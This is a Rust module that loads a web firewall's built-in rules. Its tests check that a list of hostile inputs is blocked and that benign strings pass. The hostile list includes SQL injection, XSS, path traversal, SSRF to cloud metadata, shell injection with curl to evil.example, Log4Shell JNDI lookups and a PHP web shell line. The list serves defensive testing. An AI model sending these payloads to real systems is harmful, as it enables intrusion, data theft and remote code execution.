//! The built-in rules: work with no file at all. Their text is `builtin.conf`, in the same language as any other.

use crate::{NoFiles, Program};

/// The text of the built-in rules.
pub const TEXT: &str = include_str!("builtin.conf");

/// The built-in rules, ready.
pub fn program() -> Program {
    Program::parse("builtin", TEXT, &NoFiles).expect("a test loads the built-in rules")
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use super::*;
    use crate::{Connection, Decision, Engine, Settings, Transaction};

    fn run(tx: &mut Transaction, target: &str, headers: &[(&str, &str)], body: &str) -> (bool, Vec<u64>) {
        tx.reset();
        tx.connection(&Connection { client: "192.0.2.1", ..Connection::default() });
        tx.request_line(if body.is_empty() { b"GET" } else { b"POST" }, target.as_bytes(), b"HTTP/1.1");
        tx.request_header(b"Host", b"shop.example.com");
        for (name, value) in headers {
            tx.request_header(name.as_bytes(), value.as_bytes());
        }
        tx.request_headers_end();
        tx.request_body(body.as_bytes());
        tx.request_body_end();
        let ids = tx.matches().iter().map(|m| m.rule).collect();
        (matches!(tx.decision(), Decision::Deny { status: 403, .. }), ids)
    }

    fn encode(text: &str) -> String {
        text.bytes()
            .map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02x}") })
            .collect()
    }

    const HOSTILE: &[&str] = &[
        "1' or '1'='1",
        "1 UNION/**/SELECT password FROM users",
        "'; DROP TABLE users;--",
        "1; WAITFOR DELAY '0:0:5'",
        "sleep(5)",
        "' and extractvalue(1,concat(0x7e,version()))--",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(1)>",
        "javascript:alert(document.cookie)",
        "&#x3c;script&#x3e;alert(1)",
        "\\u003cscript\\u003ealert(1)",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc/shadow",
        "/etc/passwd",
        "php://filter/convert.base64-encode/resource=index",
        "file:///etc/hosts",
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:8080/admin",
        "; cat /etc/passwd",
        "| whoami",
        "$(curl http://evil.example/x)",
        "`id`",
        "127.0.0.1 && ls -la",
        "a;/bin/sh -c id",
        "cat$IFS/tmp/x",
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "{{7*7}}",
        "{{config.items()}}",
        "<%= 7*7 %>",
        "${7*7}",
        "''.__class__.__mro__[1]",
        "__proto__",
        "require('child_process').exec('id')",
        "<?php system($_GET['c']); ?>",
        "phpinfo()",
        "O:8:\"Exploits\":1:{s:1:\"a\";i:1;}",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
        "Runtime.getRuntime().exec('id')",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///x\">]>",
        "*)(uid=*))(|(uid=*",
        "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "x\r\nSet-Cookie: admin=1",
        "a\0b",
    ];

    const BENIGN: &[&str] = &[
        "hello world",
        "O'Brien & Sons",
        "it's a new day; let's go!",
        "select a color from the list",
        "please update your address and delete the old one",
        "the union of two sets",
        "price < 100 and size > 5",
        "5 > 3",
        "a/b/c.html",
        "../img/logo.png",
        "https://www.example.com/path?a=b&c=d",
        "user.name+tag@example.co.uk",
        "2024-01-31T12:00:00Z",
        "550e8400-e29b-41d4-a716-446655440000",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "50% off; today only",
        "Tom & Jerry | Season 1",
        "$100 (approx.)",
        "(555) 123-4567",
        "what's the id of the order? #1234",
        "find the cat; then sleep",
        "the system (as described) works",
        "R&D; sales & marketing",
        "key=value;other=thing",
        "[draft] \"quoted\" text -- with dashes",
        "Größe: 42 × 30 cm",
        "日本語のテキスト",
        "1,234.56",
        "a=1&b=2",
        "Q: on time = good?",
        "like father, like son",
        "order by Friday or Monday",
        "{\"note\":\"plain\"}",
        "C:\\Users\\me\\file.txt",
        "don't; won't -- can't",
        "<3 you",
        "x = y + z",
        "no -- really",
    ];

    fn engine(settings: Settings) -> Arc<Engine> {
        Arc::new(Engine::new(Arc::new(program()), &settings))
    }

    #[test]
    fn hostile_values_are_refused_wherever_they_are() {
        let mut tx = Transaction::new(engine(Settings::default()));
        for text in HOSTILE {
            let query = run(&mut tx, &format!("/s?q={}", encode(text)), &[], "");
            assert!(query.0, "query {text:?}: {:?}", query.1);
            let form = ("Content-Type", "application/x-www-form-urlencoded");
            let body = run(&mut tx, "/s", &[form], &format!("q={}", encode(text)));
            assert!(body.0, "form {text:?}: {:?}", body.1);
            let json: String = text.chars().map(|c| format!("\\u{:04x}", c as u32)).collect();
            let body = run(&mut tx, "/s", &[("Content-Type", "application/json")], &format!("{{\"q\":\"{json}\"}}"));
            assert!(body.0, "json {text:?}: {:?}", body.1);
        }
    }

    #[test]
    fn benign_values_pass() {
        let mut tx = Transaction::new(engine(Settings::default()));
        let mut wrong = Vec::new();
        for text in BENIGN {
            let (denied, ids) = run(&mut tx, &format!("/s?q={}", encode(text)), &[("User-Agent", "Mozilla/5.0")], "");
            if denied {
                wrong.push((text, ids));
            }
        }
        assert!(wrong.is_empty(), "{wrong:#?}");
    }

    #[test]
    fn thresholds_and_levels_are_settings() {
        let mut tx = Transaction::new(engine(Settings::default().threshold(50)));
        let (denied, ids) = run(&mut tx, "/?q=%3Cscript%3Ealert(1)%3C/script%3E", &[], "");
        assert!(!denied && !ids.is_empty());
        assert!(tx.scores().xss >= 5);
        let mut tx = Transaction::new(engine(Settings::default().paranoia(1, 2)));
        let (denied, ids) = run(&mut tx, "/?q=100%2525", &[("User-Agent", "x")], "");
        assert!(!denied, "{ids:?}");
    }

    #[test]
    fn both_executors_agree() {
        let mut fast = Transaction::new(engine(Settings::default().paranoia(1, 2)));
        let mut plain = Transaction::new(engine(Settings { plain: true, ..Settings::default().paranoia(1, 2) }));
        for text in HOSTILE.iter().chain(BENIGN) {
            let target = format!("/{}?q={}", encode(text), encode(text));
            let headers = [("User-Agent", *text), ("Cookie", "a=b")];
            assert_eq!(run(&mut fast, &target, &headers, ""), run(&mut plain, &target, &headers, ""), "{text:?}");
            assert_eq!(fast.scores(), plain.scores(), "{text:?}");
        }
    }
}
